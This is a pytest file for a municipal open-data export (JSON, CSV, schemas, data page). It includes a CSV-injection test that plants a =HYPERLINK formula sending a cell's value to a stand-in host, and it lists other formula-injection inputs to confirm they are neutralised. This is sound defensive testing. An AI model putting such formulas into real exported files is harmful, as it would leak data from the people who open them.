"""Open data: the JSON reads back into the same model, the CSV tables match it, /data/ links all."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from sitegen.model.opendata import OpenData
from sitegen.opendata import TABLES, open_data, tables, to_json
from sitegen.opendata.step import SCHEMAS_DIR
from sitegen.site.model import SiteModel


def read_json(out: Path, rel: str) -> OpenData:
    return OpenData.model_validate(json.loads((out / rel).read_text(encoding="utf-8")))


def assert_same_model(doc: OpenData, site: SiteModel, ids: list[str]) -> None:
    assert [m.municipality.id for m in doc.municipalities] == ids
    for data in doc.municipalities:
        node = site.municipality(data.municipality.id)
        assert data.municipality == node.municipality
        assert data.plans == [p.plan for p in node.plans]
        assert data.areas == [a.area for a in node.areas]
        assert data.goals == [g.goal for g in node.goals]
        assert data.followups == node.followups
    assert doc.themes.themes == list(site.themes.values())
    assert [g.number for g in doc.sdgs.goals] == list(range(1, 18))


@pytest.mark.parametrize("fixture", ["followup_site", "built_site"])
def test_json_reads_back_into_the_same_model(fixture: str, request: pytest.FixtureRequest) -> None:
    out, result = request.getfixturevalue(fixture)
    site = result.site
    ids = [m.id for m in site.municipalities]
    doc = read_json(out, "data/malbild.json")
    assert_same_model(doc, site, ids)
    # Written again from what was read, the file is byte for byte the same.
    assert to_json(doc) == (out / "data/malbild.json").read_text(encoding="utf-8")
    for mid in ids:
        one = read_json(out, f"data/kommuner/{mid}.json")
        assert_same_model(one, site, [mid])
        assert one == open_data(site, [site.municipality(mid)])
        assert to_json(one) == (out / f"data/kommuner/{mid}.json").read_text(encoding="utf-8")


def test_followup_is_in_the_json(followup_site: tuple[Path, Any]) -> None:
    out, _ = followup_site
    raw = json.loads((out / "data/kommuner/testby.json").read_text(encoding="utf-8"))
    follow = raw["kommuner"][0]["uppfoljning"][0]
    assert follow["id"] == "arsredovisning-2021"
    assert follow["maluppfyllelse"][0]["bedomning"] == "delvis-uppfyllt"
    assert follow["matningar"][0]["varden"][2] == {
        "ar": 2021,
        "tertial": None,
        "varde": 1.7,
        "kon": "K",
        "kalla": "Testbys årsredovisning 2021",
        "anmarkning": None,
    }


def test_json_validates_against_the_published_schema(followup_site: tuple[Path, Any]) -> None:
    out, _ = followup_site
    schema = json.loads(
        (out / "data/schemas/malbild-oppna-data.schema.json").read_text(encoding="utf-8")
    )
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(json.loads((out / "data/malbild.json").read_text("utf-8")), schema)


def rows(out: Path, name: str) -> list[dict[str, str]]:
    raw = (out / f"data/{name}.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # UTF-8 without a byte order mark
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))


def test_csv_tables_have_documented_columns_and_match_the_model(
    followup_site: tuple[Path, Any],
) -> None:
    out, result = followup_site
    site = result.site
    for table in TABLES:
        header = (out / f"data/{table.file}").read_text(encoding="utf-8").splitlines()[0]
        assert header.split(",") == [name for name, _ in table.columns]
        assert all(description for _, description in table.columns)
    values = rows(out, "matningar")
    model = [(i.id, v) for m in site.municipalities for i in m.indicators for v in i.values]
    assert len(values) == len(model)
    for row, (ind_id, v) in zip(values, model, strict=True):
        assert row["indikator_id"] == ind_id and int(row["ar"]) == v.year
        assert float(row["varde"]) == v.value and row["kon"] == v.gender.value
    goals = rows(out, "mal")
    assert goals[0]["mal_id"] == "stark-ekonomi"
    assert goals[0]["senaste_bedomning"] == "delvis-uppfyllt"
    attainment = rows(out, "maluppfyllelse")
    assert [(r["ar"], r["bedomning"]) for r in attainment] == [
        ("2020", "ej-uppfyllt"),
        ("2021", "delvis-uppfyllt"),
    ]
    progress = rows(out, "framsteg")
    kinds = {(r["indikator_id"], r["typ"], r["lage"]) for r in progress}
    assert ("kostnad", "forandring", "ej-uppnatt") in kinds
    assert ("redovisning", "redovisning", "varden-saknas") in kinds
    indicators = rows(out, "indikatorer")
    assert {r["indikator_id"]: r["kolada_kpi"] for r in indicators}["resultat"] == "N03102"


def test_csv_written_in_pieces_is_one_csv_file(
    followup_site: tuple[Path, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Big tables go to the writer a few thousand rows at a time; the file is the same as one
    csv.writer over every row, whatever the size of the pieces."""
    out, result = followup_site
    monkeypatch.setattr(tables, "CSV_ROWS_PER_PART", 2)
    for table in TABLES:
        names = [name for name, _ in table.columns]
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\r\n")
        writer.writerow(names)
        writer.writerows(
            [tables.safe_cell(row[n]) for n in names] for row in table.rows(result.site)
        )
        pieces = list(tables.csv_parts(table, result.site))
        assert len(pieces) >= 1 and "".join(pieces) == buffer.getvalue()
        assert (out / f"data/{table.file}").read_bytes().decode() == buffer.getvalue()


def test_real_follow_up_value_is_in_the_csv(built_site: tuple[Path, Any]) -> None:
    out, _ = built_site
    hallsberg = [r for r in rows(out, "matningar") if r["kommun_id"] == "hallsberg"]
    assert [(r["indikator_id"], r["ar"], r["varde"]) for r in hallsberg] == [
        ("ekonomiskt-resultat", "2023", "4.0")
    ]
    assert "Årsredovisning 2023" in hallsberg[0]["kalla"]


def test_data_page_links_every_file(followup_site: tuple[Path, Any]) -> None:
    out, _ = followup_site
    html = (out / "data/index.html").read_text(encoding="utf-8")
    assert html.count("<h1") == 1
    links = set(re.findall(r'href="/(data/[^"#]+)"', html))
    expected = {"data/malbild.json", "data/kommuner/testby.json"} | {
        f"data/{t.file}" for t in TABLES
    }
    assert expected <= links
    for link in links:
        if not link.endswith("/"):
            assert (out / link).is_file(), link
    for table in re.findall(r"<table.*?</table>", html, re.S):
        assert "<caption>" in table and 'scope="col"' in table and 'scope="row"' in table
    assert (out / "en/data/index.html").is_file()


def test_repository_schemas_are_published_beside_the_data(followup_site: tuple[Path, Any]) -> None:
    out, _ = followup_site
    html = (out / "data/index.html").read_text(encoding="utf-8")
    for schema in sorted(SCHEMAS_DIR.glob("*.schema.json")):
        published = out / "data/schemas" / schema.name
        assert published.read_bytes() == schema.read_bytes()
        assert f"data/schemas/{schema.name}" in html
    assert (out / "data/schemas/malbild-oppna-data.schema.json").is_file()


def test_csv_cells_never_start_a_spreadsheet_formula(
    content_copy: Path, make_settings: Any, tmp_path: Path
) -> None:
    """CSV injection: a text that a spreadsheet would run as a formula is written with an
    apostrophe in front; numbers, negative ones too, stay numbers."""
    from sitegen.pipeline import build
    from sitegen.reporter import Reporter

    goal = content_copy / "kommuner/kungsor/mal/boende-och-utemiljo-for-trivsel.yaml"
    text = goal.read_text(encoding="utf-8")
    hostile = '=HYPERLINK("https://example.org/?"&A1;"Klicka")'
    text = text.replace(
        "titel: 'Boende- och utemiljön är viktig för att skapa trivsel'",
        "titel: '" + hostile.replace("'", "''") + "'",
    )
    goal.write_text(text, encoding="utf-8")
    settings = make_settings(content_copy, pdf_reports=False)
    build(settings, Reporter())
    rows = list(csv.DictReader(io.StringIO((settings.out_dir / "data/mal.csv").read_text())))
    row = next(r for r in rows if r["mal_id"] == "boende-och-utemiljo-for-trivsel")
    assert row["titel"] == "'" + hostile
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@")), value


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+46 8 123", "'+46 8 123"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("1e-3", "1e-3"),
        ("Bostäder", "Bostäder"),
        (-4, -4),
    ],
)
def test_safe_cell(cell: Any, written: Any) -> None:
    from sitegen.opendata.tables import safe_cell

    assert safe_cell(cell) == written
